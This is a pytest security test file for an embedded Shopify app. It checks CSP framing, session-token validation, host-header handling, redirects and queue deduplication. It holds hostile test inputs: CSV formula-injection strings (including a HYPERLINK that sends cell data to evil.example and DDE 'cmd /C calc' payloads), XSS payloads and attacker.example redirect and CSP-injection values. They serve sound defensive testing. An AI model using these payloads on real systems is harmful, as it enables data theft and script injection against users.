"""Issue 13, the pages: framing, CSV formulas, key rotation, the recompute button, the
patch-id-token page, session-token claims, XSS and oversized requests, as a hostile
reviewer attacks them (Flask test client on a real SQLite database and queue; `app`,
`client`, `standin` and `token` come from tests/conftest.py)."""

from __future__ import annotations

import concurrent.futures
import csv
import io
import re
import time
from html.parser import HTMLParser

import pytest
from huey.storage import SqliteStorage
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import select

from tests.app_support import (
    SHOP,
    app_config,
    bearer,
    register_token,
    session_token,
)
from webhooks import create_app, dashboard, shops
from webhooks.queue import huey
from webhooks.storage import Shop, db

OTHER_SHOP = "other-shop.myshopify.com"
FRAME = f"frame-ancestors https://{SHOP} https://admin.shopify.com;"


def page_url(path: str = "/dashboard", shop: str = SHOP, token: str | None = None) -> str:
    return f"{path}?shop={shop}&host=abc&embedded=1&id_token={token or session_token(shop)}"


# --- 2. framing ------------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/", "/dashboard"])
def test_embedded_pages_may_be_framed_only_by_their_shop(client, path):
    res = client.get(page_url(path))
    assert res.status_code == 200
    assert res.headers["Content-Security-Policy"] == FRAME


@pytest.mark.parametrize("path", ["/api/assessments", "/api/data-requests"])
def test_json_endpoints_carry_the_frame_policy_too(client, path):
    res = client.get(path, headers=bearer(session_token()))
    assert res.status_code == 200
    assert res.headers["Content-Security-Policy"] == FRAME


def test_a_refused_page_cannot_be_framed_at_all(client):
    res = client.get("/api/assessments", headers=bearer(session_token(secret="x" * 40)))
    assert res.status_code == 401
    assert res.headers["Content-Security-Policy"] == "frame-ancestors 'none';"


# --- 5. a rotated secret key -----------------------------------------------------------------

def test_a_token_sealed_under_a_replaced_key_is_exchanged_again(tmp_path, standin):
    """SHELFWISE_SECRET_KEY changed and the old one is gone: the next visit installs again
    by token exchange instead of answering 500."""
    huey.immediate = True
    try:
        old = create_app(app_config(tmp_path, standin.origin, SECRET_KEY="the-old-key-" * 3))
        register_token(old, standin)
        new = create_app(app_config(tmp_path, standin.origin, SECRET_KEY="the-new-key-" * 3))
        client = new.test_client()
        for path in ("/dashboard", "/"):
            res = client.get(page_url(path))
            assert res.status_code == 200, res.get_data(as_text=True)[:500]
        assert [r["grant_type"] for r in standin.token_requests] == [
            "urn:ietf:params:oauth:grant-type:token-exchange"]  # once, then stored
        with new.app_context():
            assert standin.tokens[shops.access_token(SHOP)] == SHOP  # readable again
    finally:
        huey.immediate = False


# --- 3. formulas in the reorder CSV ----------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '@SUM(1+1)*cmd|" /C calc"!A0',
            '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', "＝1+1"]


def test_safe_cell_prefixes_every_formula_start_and_keeps_numbers():
    for text in FORMULAS:
        assert dashboard.safe_cell(text) == "'" + text
    assert dashboard.safe_cell("Tea (pantry 3-586)") == "Tea (pantry 3-586)"
    assert dashboard.safe_cell(-3) == -3 and dashboard.safe_cell(2.5) == 2.5


def test_the_reorder_csv_writes_formulas_as_text(hostile_store):
    app, titles, skus = hostile_store
    client = app.test_client()
    page = client.get(page_url(shop=DEMO)).get_data(as_text=True)
    link = re.search(r"href='(/dashboard/reorder\.csv\?[^']+)'", page).group(1)
    res = client.get(link.replace("&amp;", "&"))
    assert res.status_code == 200 and res.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(res.get_data(as_text=True), newline="")))
    by_product = {r["product"]: r for r in rows}
    for title in titles:
        if title.startswith(tuple(dashboard.FORMULA_STARTS)):
            assert "'" + title in by_product, title
    for sku in skus:
        assert any(r["sku"] == "'" + sku for r in rows), sku
    for row in rows:  # no text of the file starts a formula (numbers may be negative)
        for value in row.values():
            assert not value.startswith(dashboard.FORMULA_STARTS) or _is_number(value), value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- XSS through what the store holds --------------------------------------------------------

XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
       "' onmouseover='alert(1)", "</title><svg onload=alert(1)>"]


class Elements(HTMLParser):
    """Every element and attribute name of a page."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.scripts: list[str | None] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]
        if tag == "script":
            self.scripts.append(dict(attrs).get("src"))


def test_hostile_titles_and_order_names_are_shown_as_text(hostile_store):
    app, titles, _ = hostile_store
    page = app.test_client().get(page_url(shop=DEMO)).get_data(as_text=True)
    elements = Elements()
    elements.feed(page)
    assert "img" not in elements.tags
    assert not [a for a in elements.attributes if a.startswith("on")]
    assert all(src and src.startswith(("/static/", "https://cdn.shopify.com/"))
               for src in elements.scripts)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, escaped
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # an order's name
    assert page.count("<svg") == page.count("</svg>")  # no chart closed early


# --- 8. the recompute button -----------------------------------------------------------------

@pytest.fixture
def real_queue(tmp_path, monkeypatch):
    """The app's huey on its own SQLite file, not run inline: tasks stay queued."""
    huey.immediate = False
    monkeypatch.setattr(huey, "storage", SqliteStorage(huey.name,
                                                       filename=str(tmp_path / "q.sqlite3")))
    return huey


def test_twenty_clicks_queue_one_recompute(tmp_path, standin, real_queue):
    app = create_app(app_config(tmp_path, standin.origin))
    register_token(app, standin)
    client = app.test_client()
    answers = [client.post(f"/dashboard/refresh?shop={SHOP}", headers=bearer(session_token()))
               for _ in range(20)]
    assert {a.status_code for a in answers} == {202}
    assert real_queue.pending_count() == 1
    assert [a.json["status"] for a in answers[1:]] == ["already queued"] * 19


def test_concurrent_clicks_queue_one_recompute(tmp_path, standin, real_queue):
    app = create_app(app_config(tmp_path, standin.origin))
    register_token(app, standin)

    def click(_):
        return app.test_client().post(f"/dashboard/refresh?shop={SHOP}",
                                      headers=bearer(session_token())).status_code

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        assert set(pool.map(click, range(20))) == {202}
    assert real_queue.pending_count() == 1


def test_a_recompute_that_never_ran_does_not_block_the_button(tmp_path, standin, real_queue,
                                                              monkeypatch):
    app = create_app(app_config(tmp_path, standin.origin))
    register_token(app, standin)
    client = app.test_client()
    post = lambda: client.post(f"/dashboard/refresh?shop={SHOP}",  # noqa: E731
                               headers=bearer(session_token()))
    post()
    monkeypatch.setattr(dashboard, "RECOMPUTE_PENDING_SECONDS", 0)  # its time is over
    assert post().json["status"] != "already queued"
    assert real_queue.pending_count() == 2


# --- 9. signing key, patch-id-token page, hosts, claims --------------------------------------

def test_csv_links_signed_with_the_old_fallback_key_are_refused(tmp_path, standin):
    app = create_app(app_config(tmp_path, standin.origin, SECRET_KEY=None))
    sig = URLSafeTimedSerializer("demo", salt="shelfwise-reorder-csv").dumps(SHOP)
    res = app.test_client().get(f"/dashboard/reorder.csv?shop={SHOP}&sig={sig}")
    assert res.status_code == 403


@pytest.mark.parametrize("shop", [
    "evil.example https://attacker.example", "attacker.example",
    "x.myshopify.com; script-src *", "x.myshopify.com.attacker.example", ""])
def test_the_patch_page_refuses_a_shop_that_is_not_one(client, shop):
    res = client.get("/auth/patch-id-token", query_string={
        "shop": shop, "shopify-reload": "/dashboard?shop=x.myshopify.com"})
    assert res.status_code == 400
    assert "attacker" not in res.headers.get("Content-Security-Policy", "")


@pytest.mark.parametrize("target", ["https://attacker.example/", "//attacker.example/x",
                                    "/\\attacker.example"])
def test_the_patch_page_reloads_only_into_the_app(client, target):
    res = client.get("/auth/patch-id-token",
                     query_string={"shop": SHOP, "shopify-reload": target})
    assert res.status_code == 400


def test_the_patch_page_serves_app_bridge_for_a_real_shop(client):
    res = client.get("/auth/patch-id-token",
                     query_string={"shop": SHOP, "shopify-reload": "/dashboard?shop=" + SHOP})
    assert res.status_code == 200 and b"app-bridge.js" in res.data
    assert res.headers["Content-Security-Policy"] == FRAME


def test_the_session_token_bounce_ignores_the_host_header(client):
    res = client.get(f"/dashboard?shop={SHOP}&embedded=1",
                     headers={"Host": "attacker.example"})
    assert res.status_code == 302
    assert res.headers["Location"].startswith("/auth/patch-id-token?")


def test_with_an_app_url_other_hosts_are_refused(tmp_path, standin):
    app = create_app(app_config(tmp_path, standin.origin,
                                APP_URL="https://shelfwise.example.com"))
    client = app.test_client()
    url = page_url()
    assert client.get(url, headers={"Host": "shelfwise.example.com"}).status_code == 200
    assert client.get(url, headers={"Host": "attacker.example"}).status_code == 400
    assert client.get(url, headers={"Host": "shelfwise.example.com",
                                    "X-Forwarded-Host": "attacker.example"}).status_code == 400


@pytest.mark.parametrize("changes", [
    {"exp": None},  # never expires
    {"iss": f"https://{OTHER_SHOP}/admin"},  # issued by another shop's admin
    {"dest": "https://attacker.example"},  # not a shop
    {"iss": None},
])
def test_session_tokens_must_name_one_shop_and_expire(client, changes):
    token = session_token(**changes)
    assert client.get(page_url(token=token)).status_code == 401
    assert client.get("/api/assessments", headers=bearer(token)).status_code == 401


# --- more attacks on the gate ----------------------------------------------------------------

def test_forged_expired_and_foreign_tokens_are_refused(client):
    forged = session_token(secret="not-the-app-secret-" * 2)
    expired = session_token(exp=int(time.time()) - 120, iat=int(time.time()) - 180,
                           nbf=int(time.time()) - 180)
    other_app = session_token(aud="another-app")
    for token in (forged, expired, other_app):
        assert client.get("/api/assessments", headers=bearer(token)).status_code == 401
        assert client.post(f"/dashboard/refresh?shop={SHOP}",
                           headers=bearer(token)).status_code == 401
        res = client.get(page_url(token=token))
        assert res.status_code in (302, 401) and b"id='reorder'" not in res.data


def test_a_token_of_one_shop_does_not_open_another(client):
    res = client.get(page_url(shop=OTHER_SHOP, token=session_token(SHOP)))
    assert res.status_code == 401
    res = client.post(f"/dashboard/refresh?shop={OTHER_SHOP}", headers=bearer(session_token()))
    assert res.status_code == 401


def test_a_huge_query_string_is_refused_quickly(client):
    res = client.get(page_url() + "&x=" + "A" * 1_000_000)
    assert res.status_code == 414
    res = client.get("/auth/patch-id-token?shop=" + SHOP + "&shopify-reload=/" + "a" * 100_000)
    assert res.status_code == 414


# --- the hostile store -----------------------------------------------------------------------

DEMO = SHOP


def hostile_insights(titles: list[str], skus: list[str]) -> dict:
    """Stored advice in the shape `webhooks.advice` saves it, every text field hostile."""
    evil = XSS[0]
    days = [f"2026-11-{d:02d}" for d in range(1, 29)]
    reorder = [{"variant_gid": f"gid://shopify/ProductVariant/{i}", "product": t,
                "product_gid": f"gid://shopify/Product/{i}", "variant": XSS[1], "sku": skus[i],
                "on_hand": -3 if i == 0 else 5, "demand_per_day": 1.5, "forecast_30_days": 45.0,
                "safety_stock": 2.0, "reorder_point": 12, "order_quantity": 10,
                "order_now": 10, "days_of_cover": 3.3, "stockout_date": "2026-12-05"}
               for i, t in enumerate(titles)]
    return {
        "summary": {"as_of": evil, "products": len(titles), "orders": 10, "currency": XSS[3],
                    "first_order": XSS[1], "last_order": "2026-11-28", "lead_time_days": 7,
                    "segment_tags": {"note": evil}},
        "forecast": [{"product_gid": "gid://shopify/Product/1", "title": t, "model": evil,
                      "history": [[d, 3.0] for d in days[:20]],
                      "forecast": [[d, 3.0, 2.0, 4.0, 1.0, 5.0] for d in days[20:]],
                      "total_30_days": 90.0} for t in titles[:8]],
        "reorder": reorder,
        "upsell": [{"product": titles[i], "recommended": titles[i + 1], "orders_together": 3,
                    "confidence": 0.5, "lift": 2.0, "why": XSS[2]} for i in range(3)],
        "orders": [{"order_id": "1", "name": "<img src=x onerror=alert(1)>", "total": XSS[1],
                    "created_at": "2026-11-28T10:00:00Z", "currency": XSS[2], "items": 2,
                    "risk_level": "HIGH", "score": 0.9, "reasons": "; ".join(XSS)}],
        "segments": [{"segment": t, "customers": 3, "share": 0.5, "revenue": 10.0,
                      "expected_purchases_90_days": 1.0, "tag": XSS[1]} for t in XSS],
        "anomalies": [{"ds": "2026-11-03", "amount": 99.0, "score": 4.0, "reason": evil,
                       "expected": 10.0}],
        "revenue": {"days": [[d, 10.0] for d in days]},
    }


@pytest.fixture
def hostile_store(app, token):
    """The shop's stored advice names products, SKUs, orders and segments hostilely."""
    from webhooks import advice

    titles = [f"{text} #{i}" for i, text in enumerate(FORMULAS + XSS)]
    skus = [f"{FORMULAS[i % len(FORMULAS)]}-{i}" for i in range(len(titles))]
    with app.app_context():
        with db().session() as session:
            shop_id = session.scalar(select(Shop.id).where(Shop.domain == SHOP))
        advice.save_insights(shop_id, hostile_insights(titles, skus))
    return app, titles, skus


def test_every_page_and_api_of_the_app_asks_for_a_session_token(app, token):
    """No view of the admin and dashboard blueprints answers without a token (the CSV is
    a signed link instead: a download cannot carry the Authorization header)."""
    client = app.test_client()
    rules = [r for r in app.url_map.iter_rules()
             if r.endpoint.split(".")[0] in ("admin", "dashboard")
             and r.endpoint != "dashboard.reorder_csv"]
    assert len(rules) >= 5
    for rule in rules:
        method = "POST" if "POST" in rule.methods else "GET"
        res = client.open(f"{rule.rule}?shop={SHOP}", method=method)
        assert res.status_code in (302, 401), rule.rule
        res = client.open(f"{rule.rule}?shop={SHOP}", method=method,
                          headers=bearer(session_token(secret="wrong-secret-" * 3)))
        assert res.status_code == 401, rule.rule
